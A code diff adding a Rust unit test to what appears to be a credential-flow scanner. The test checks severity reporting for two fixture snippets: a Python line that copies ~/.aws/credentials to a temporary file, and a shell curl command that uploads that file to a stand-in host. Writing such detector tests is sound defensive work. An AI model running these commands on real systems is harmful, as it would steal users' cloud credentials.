@@ -238,3 +238,16 @@ fn a_credential_path_passed_to_a_helper_that_opens_it_is_read_there() {
     assert_eq!(out[0].finding.line, 12);
     assert_eq!(out[0].finding.source.as_ref().map(|s| s.line), Some(7));
 }
+
+#[test]
+fn credentials_staged_in_a_temporary_file_nothing_here_sends_are_reported_at_medium() {
+    let py = "import os, shutil\nshutil.copy(os.path.expanduser('~/.aws/credentials'), '/tmp/.c')\n";
+    let out = flows(&[("a.py", py)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 2);
+    assert_eq!(out[0].finding.severity(), crate::rules::Severity::Medium);
+    let sh = "#!/bin/sh\ncurl -s -T /tmp/.c https://h.invalid/u\n";
+    let out = flows(&[("a.py", py), ("b.sh", sh)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].path, "b.sh");
+}
